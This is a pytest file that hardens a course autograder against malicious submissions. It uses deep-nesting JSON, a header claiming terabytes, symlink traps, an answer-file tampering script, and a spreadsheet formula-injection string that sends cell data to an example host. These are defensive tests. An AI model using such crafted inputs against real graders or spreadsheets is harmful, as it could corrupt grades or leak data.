"""The grader against malformed data a submission can leave behind: nothing it writes may stop the grader.

A submission's process writes its report (``progress.jsonl``) and its answers
(``answers/*.npz``), and the grader reads both after the process has ended. Each
test here hands the grader's readers data crafted to break them — nesting deep
enough to exhaust the recursion limit, dtypes numpy has and torch has not, an
array header that claims terabytes, a link in place of a file, text meant for a
spreadsheet or a terminal — and checks that the reader turns it into a plain
"cannot be read" for that one exercise. The last test runs the grader on such
a submission and an honest one: the honest one is graded.
"""

from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path

import nbformat
import numpy as np
import pytest

from companion import check, grade
from test_grade_attacks import main, place, results, sheet, submit  # noqa: F401 (place is a fixture)

DEEP = "[" * 100_000 + "]" * 100_000


def produced_file(path: Path, seed: int = 7) -> Path:
    """The honest answer of chapter 7's exercise 1 (``conv_output_size``) saved as the runner saves it."""
    right = lambda n, k, p, s: (n + 2 * p - k) // s + 1  # noqa: E731
    check.save_produced(path, check.produce("conv_output_size", (right,), seed))
    return path


def rewritten(path: Path, change) -> Path:
    """``path``'s arrays as a dict, changed by ``change(arrays)`` and written back with ``np.savez``."""
    with np.load(path, allow_pickle=False) as npz:
        arrays = {k: npz[k] for k in npz.files}
    change(arrays)
    with open(path, "wb") as file:
        np.savez(file, **arrays)
    return path


def a_tensor_answer(path: Path) -> Path:
    """An answer of ``conv2d_forward`` (a wrong one), whose outputs are tensors: dtype tags and arrays."""
    check.save_produced(path, check.produce("conv2d_forward", (lambda x, weight, bias: 2 * x,), 7))
    return path


def deep_json(arrays):
    arrays["__json__"] = np.array(DEEP)


def float128(arrays):
    for key in arrays:
        if key != "__json__":
            arrays[key] = arrays[key].astype(np.longdouble)


def torch_only_dtype(arrays):
    arrays["__json__"] = np.array(str(arrays["__json__"]).replace('"float64"', '"qint8"'))


@pytest.mark.parametrize("change", [deep_json, float128, torch_only_dtype], ids=lambda f: f.__name__)
def test_a_tampered_answer_file_is_unreadable_not_a_crash(tmp_path, change):
    path = rewritten(a_tensor_answer(tmp_path / "0.npz"), change)
    with pytest.raises(ValueError):
        grade.judged("conv2d_forward", 7, path)


def test_an_array_header_that_claims_terabytes_is_refused_before_anything_is_allocated(tmp_path):
    path = a_tensor_answer(tmp_path / "0.npz")
    with np.load(path, allow_pickle=False) as npz:
        arrays = {k: npz[k] for k in npz.files}
    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(header, {"descr": "<f8", "fortran_order": False, "shape": (2**40,)})
    with zipfile.ZipFile(path, "w") as archive:
        for key, array in arrays.items():
            body = io.BytesIO()
            np.save(body, array)
            archive.writestr(f"{key}.npy", header.getvalue() if key == "a0" else body.getvalue())
    with pytest.raises(ValueError, match="larger than"):
        grade.judged("conv2d_forward", 7, path)


def test_an_answer_that_is_a_link_is_not_followed(tmp_path):
    secret = produced_file(tmp_path / "graders-own.npz")
    (tmp_path / "answers").mkdir()
    (tmp_path / "answers" / "0.npz").symlink_to(secret)
    run = grade.Run({0}, {0: None}, set())
    result, message = grade.outcome(run, tmp_path, "conv_output_size", grade.Answer(0, 7, 1), 60)
    assert result == "failed" and "not a regular file" in message, message


def test_a_report_line_nested_past_the_recursion_limit_is_ignored():
    run = grade.Run(set(), {}, set())
    run.read([DEEP, json.dumps({"cell": 0, "event": "start"})])
    assert run.started == {0}


def test_an_exercise_cell_nested_past_the_recursion_limit_is_read_as_a_syntax_error_is():
    """Its check call is found by the text of its last such line, as in a cell with a syntax error."""
    deep = nbformat.v4.new_code_cell("x = " + "+".join(["1"] * 200_000) + "\ncheck.conv_output_size(f)",
                                     metadata={"tags": ["exercise"]})  # fmt: skip
    honest = nbformat.v4.new_code_cell("check.conv2d_forward(f)", metadata={"tags": ["exercise"]})
    notebook = nbformat.v4.new_notebook(cells=[deep, honest])
    assert grade.answers(notebook) == {"conv_output_size": 0, "conv2d_forward": 1}


def test_messages_reach_the_csv_and_the_terminal_without_formulas_or_control_characters(tmp_path):
    run = grade.Run(set(), {}, set())
    run.read([json.dumps({"cell": 1, "event": "done", "error": '=HYPERLINK("http://x.example/?"&A1,"d")\n'
                          "\x1b[31mb-honest — chapter: 0 of 3 passed"})])  # fmt: skip
    message = run.errors[1]
    assert not any(ord(ch) < 32 or ord(ch) == 127 for ch in message), repr(message)
    graded = [grade.Grade("a.ipynb", "Chapter", 1, "conv_output_size", "raised", message)]
    grade.write_csv(graded, tmp_path / "grades.csv")
    cells = [row.split(",")[-1] for row in (tmp_path / "grades.csv").read_text().splitlines()[1:]]
    assert all(not cell.lstrip('"').startswith(("=", "+", "-", "@")) for cell in cells), cells
    assert "\n" not in grade.table(graded).split("\n", 2)[-1]


def test_a_submission_that_breaks_a_reader_costs_only_its_own_grades(place):  # noqa: F811
    tamper = f"""
        import glob
        import numpy as np
        for path in glob.glob("answers/*.npz"):
            np.savez(open(path, "wb"), __json__=np.array({DEEP!r}))
        open("progress.jsonl", "a").write({DEEP!r} + "\\n")
    """
    attacker = sheet(tamper)
    attacker.cells.append(attacker.cells.pop(2))  # after the answers
    submit(place, "a-tamperer", attacker)
    submit(place, "b-honest", sheet())
    code, _, err, rows = main("submissions", cwd=place)
    assert code == 0, err
    assert results(rows, "b-honest") == ["passed", "passed", "passed"]
    assert results(rows, "a-tamperer") == ["failed", "failed", "failed"]


def test_an_unexpected_error_while_grading_one_submission_costs_only_its_grades(place, monkeypatch):  # noqa: F811
    real = grade.grade_notebook

    def breaks_on_the_first(notebook, student, *args, **kwargs):
        if "a-first" in student:
            raise RecursionError("maximum recursion depth exceeded")
        return real(notebook, student, *args, **kwargs)

    monkeypatch.setattr(grade, "grade_notebook", breaks_on_the_first)
    submit(place, "a-first", sheet())
    submit(place, "b-honest", sheet())
    code, _, err, rows = main("submissions", cwd=place)
    assert code == 1 and "a-first" in err and "RecursionError" in err, err
    assert results(rows, "b-honest") == ["passed", "passed", "passed"]


def test_the_work_folder_is_removed_without_following_links_even_when_read_only(tmp_path):
    outside = tmp_path / "instructor.txt"
    outside.write_text("grades")
    outside.chmod(0o600)
    work = tmp_path / "work"
    (work / "trap").mkdir(parents=True)
    (work / "trap" / "link").symlink_to(outside)
    (work / "trap").chmod(0o500)
    grade.remove_tree(work)
    assert not work.exists()
    assert outside.read_text() == "grades" and outside.stat().st_mode & 0o777 == 0o600
